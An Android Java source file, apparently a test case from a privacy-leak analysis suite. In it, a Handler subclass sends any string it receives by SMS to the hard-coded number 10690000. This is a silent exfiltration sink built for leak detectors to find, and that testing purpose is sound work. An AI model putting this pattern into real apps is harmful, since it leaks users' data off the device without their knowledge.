package cn.privlens.suite.own_handler_gets_message;

import android.os.Handler;
import android.os.Message;
import android.telephony.SmsManager;

class CardHandler extends Handler {
    @Override
    public void handleMessage(Message message) {
        SmsManager.getDefault().sendTextMessage("10690000", null, (String) message.obj, null, null);
    }
}
